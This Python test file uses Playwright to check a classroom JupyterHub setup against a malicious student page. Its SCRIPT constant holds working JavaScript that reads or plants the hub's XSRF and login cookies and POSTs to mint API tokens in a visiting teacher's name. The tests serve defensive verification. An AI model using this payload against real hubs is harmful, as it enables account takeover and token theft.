"""A teacher opens a page of a student's server: what its script, which the student wrote, gets of the teacher's rights.

Beside it: what a teacher may do in a browser, and what the token of deploy/warm_up.py is good for.
"""

import json
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from jupyterhub.scopes import scope_definitions
from playwright.sync_api import Browser, BrowserContext

from tests.browser.desk import RUN_SECONDS
from tests.browser.hub import TEACHER, Hub, begun, jupyterhub, logged_in, need_hub

ADA, MALLORY = "ada", "mallory"
CHAPTER = "00_start_here.ipynb"
OLD = f"--Authenticator.admin_users={TEACHER}"  # what a group of admins (PAMAuthenticator.admin_groups) comes to
TAKE, CHANGE = (f"users/{ADA}/tokens", "POST"), ("groups/students/users", "POST", {"users": [ADA]})
LOOT = "loot"  # the note of tokens that the script asks for
# It opens a page of the hub to read the cookie that the hub's own requests carry, and gives the browser cookies of its
# own for the hub; each time it asks for a token of the teacher's, so that the answer can be read, or else blindly.
SCRIPT = """
const tokens = HUB + "api/users/teacher/tokens", body = JSON.stringify({note: "loot"})
const look = async () => {
    const page = open(HUB + "token")
    for (let wait = 0; wait < 100 && !page.document.getElementById("logout"); wait++)
        await new Promise(done => setTimeout(done, 100))
    return page.document.cookie.match(/_xsrf=([^;]+)/)[1]
}
const toss = () => {
    for (const name of ["_xsrf", "jupyterhub-session-id", "jupyterhub-hub-login", "__Host-jupyterhub-hub-login"])
        document.cookie = `${name}=mine; domain=${new URL(HUB).hostname}; path=/hub/`
    return "mine"
}
const ask = async seal => {
    await fetch(`${tokens}?_xsrf=${seal}`, {method: "POST", credentials: "include", mode: "no-cors", body})
    const answer = await fetch(tokens, {method: "POST", credentials: "include", body,
        headers: {"Content-Type": "application/json", "X-XSRFToken": seal}})
    return (await answer.json()).token || answer.status
}
const tried = async what => { try { return await what() } catch (error) { return error.name } }
(async () => {
    const found = []
    for (const way of [look, toss]) {
        const seal = await tried(way)
        found.push(await tried(() => ask(seal)))
    }
    window.loot = found
})()
"""


def with_a_trap(hub: Hub) -> Hub:
    """Mallory's server runs, with a page that anybody can open. All it takes is a line of her settings."""
    pages = hub.homes / MALLORY / "pages"
    pages.mkdir()
    (pages / "trap.html").write_text(f"<script>const HUB = {json.dumps(hub.url + 'hub/')}{SCRIPT}</script>")
    settings = hub.homes / MALLORY / ".jupyter" / "jupyter_server_config.json"
    settings.write_text(json.dumps({"ServerApp": {"allow_root": True, "extra_static_paths": [str(pages)]}}))
    start(hub, MALLORY)
    return hub


def start(hub: Hub, name: str) -> None:
    """Start a student's server as deploy/warm_up.py does, and wait for it."""
    token = hub.token.read_text()
    assert hub.ask(token, f"users/{name}/server", "POST", {})[0] in (201, 202)
    end = time.monotonic() + RUN_SECONDS
    while not hub.ask(token, f"users/{name}")[1]["servers"].get("", {}).get("ready"):
        assert time.monotonic() < end, "the server did not start"
        time.sleep(0.3)


@pytest.fixture(scope="module", params=[False, True], ids=["one domain", "a domain for each"])
def hub(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    """A hub with two students, of whom one has laid a trap."""
    need_hub()
    with jupyterhub(tmp_path_factory.mktemp("hub"), (ADA, MALLORY), domains=request.param) as started:
        yield with_a_trap(started)


@pytest.fixture
def teacher(browser: Browser, hub: Hub) -> Iterator[BrowserContext]:
    context = logged_in(browser, hub, TEACHER)
    yield context
    context.close()


def own(context: BrowserContext, hub: Hub) -> str:
    """A token that somebody takes on the hub's own page."""
    page = context.new_page()
    page.goto(f"{hub.url}hub/token")
    name = page.evaluate("jhdata.user")
    return page.evaluate("""async path => (await (await fetch(path, {method: "POST", headers: {
        "X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]}})).json()).token""",
                         f"{hub.url}hub/api/users/{name}/tokens")


def sprung(teacher: BrowserContext, hub: Hub) -> list[str]:
    """The tokens that the script got in the teacher's browser."""
    page = teacher.new_page()
    assert page.goto(f"{hub.server(MALLORY)}static/trap.html").status == 200
    page.wait_for_function("window.loot")
    loot = [one for one in page.evaluate("window.loot") if isinstance(one, str) and len(one) == 32]
    token = own(teacher, hub)
    assert hub.ask(token, "user")[1]["name"] == TEACHER, "the script's cookies have made somebody else of the teacher"
    notes = [one["note"] for one in hub.ask(token, f"users/{TEACHER}/tokens")[1]["api_tokens"]]
    assert (LOOT in notes) == bool(loot), "what is asked blindly is made all the same"
    return loot


def rights(hub: Hub, token: str) -> dict[str, int]:
    """The answers of the hub to an admin's work."""
    return {work: hub.ask(token, *words)[0] for work, words in {
        "list all": ("users",), "make a user": ("users/eve", "POST"), "take a student's token": TAKE,
        "make an admin": (f"users/{ADA}", "PATCH", {"admin": True}), "change a group": CHANGE,
        "stop a server": (f"users/{MALLORY}/server", "DELETE")}.items()}


def opens(browser: Browser, hub: Hub, token: str) -> set[int]:
    """The answers of Mallory's server to somebody who has a token."""
    context = browser.new_context(ignore_https_errors=True, extra_http_headers={"Authorization": f"token {token}"})
    page = context.new_page()
    paths = f"api/contents/{CHAPTER}", "api/kernels", "api/terminals"
    found = {page.goto(hub.server(MALLORY) + path).status for path in paths}
    context.close()
    return found


def test_an_admin_would_hand_over_all_and_is_one_no_more(browser: Browser, tmp_path: Path):
    """Without this, the others prove nothing."""
    need_hub()
    with jupyterhub(tmp_path, (ADA, MALLORY), options=[OLD]) as hub:
        teacher = logged_in(browser, with_a_trap(hub), TEACHER)
        token = sprung(teacher, hub)[0]
        teacher.close()
        assert hub.ask(token, "user")[1]["admin"] and opens(browser, hub, token) == {200}
        found = rights(hub, token)
        assert all(status < 300 for status in found.values()), found
        hub.ask(token, f"users/{ADA}", "PATCH", {"admin": False})
    with begun(replace(hub, options=hub.options[:-1])):  # on the same database
        assert not hub.ask(token, "user")[1]["admin"] and set(rights(hub, token).values()) <= {403, 404}


def test_a_page_of_a_student_gets_no_right_over_others(teacher: BrowserContext, hub: Hub, browser: Browser):
    """With one domain it gets at what is the teacher's own, as docs/deploying.md says; with more, at nothing."""
    loot = sprung(teacher, hub)
    assert bool(loot) != bool(hub.host)
    for token in loot:
        assert hub.ask(token, "user")[1]["name"] == TEACHER and opens(browser, hub, token) == {403}
        assert set(rights(hub, token).values()) <= {403, 404}, rights(hub, token)


def test_the_token_of_warm_up_starts_servers_of_the_class_and_no_more(hub: Hub, browser: Browser):
    token = hub.token.read_text()
    assert opens(browser, hub, token) == {403}
    found = rights(hub, token)
    assert found.pop("list all") == 200 and {one["name"] for one in hub.ask(token, "users")[1]} == {ADA, MALLORY}
    if "start:servers" not in scope_definitions:  # JupyterHub 5, where who starts a server can stop it
        assert found.pop("stop a server") == 204
        start(hub, MALLORY)
    assert set(found.values()) == {403}
    assert hub.ask(token, f"users/{TEACHER}/server", "POST", {})[0] == 404
    assert hub.ask(token, f"users/{ADA}/server", "POST", {"chapter": "../99"})[0] == 400
    start(hub, ADA)


@pytest.mark.parametrize("hub", [True], ids=["a domain for each"], indirect=True)
def test_a_student_with_a_domain_works_there(hub: Hub, browser: Browser):
    ada = logged_in(browser, hub, ADA)
    page = ada.pages[0]
    page.goto(f"{hub.url}hub/spawn")
    page.wait_for_url(f"{hub.server(ADA)}lab/tree/{CHAPTER}")
    page.locator("#jp-main-statusbar", has_text="| Idle").first.wait_for()
    found = {cookie["name"]: cookie["domain"] for cookie in ada.cookies()}
    logins = {"__Host-jupyterhub-hub-login": "hub.localhost", f"__Host-jupyterhub-user-{ADA}": f"{ADA}.hub.localhost"}
    assert found.items() >= logins.items(), "a browser takes cookies of these names from their own domain alone"
    ada.close()


def test_a_teacher_starts_and_stops_servers_where_each_has_a_domain_and_looks_into_none(
        teacher: BrowserContext, hub: Hub, browser: Browser):
    page = teacher.new_page()
    assert page.goto(f"{hub.server(MALLORY)}lab").status == 403
    assert page.goto(f"{hub.url}hub/admin").status == (200 if hub.host else 403)
    token = own(teacher, hub)
    assert opens(browser, hub, token) == {403}
    found = rights(hub, token)
    may = {work: status < 300 for work, status in found.items()}
    assert [work for work in may if may[work]] == (["list all", "stop a server"] if hub.host else []), found
    if hub.host:
        start(hub, MALLORY)
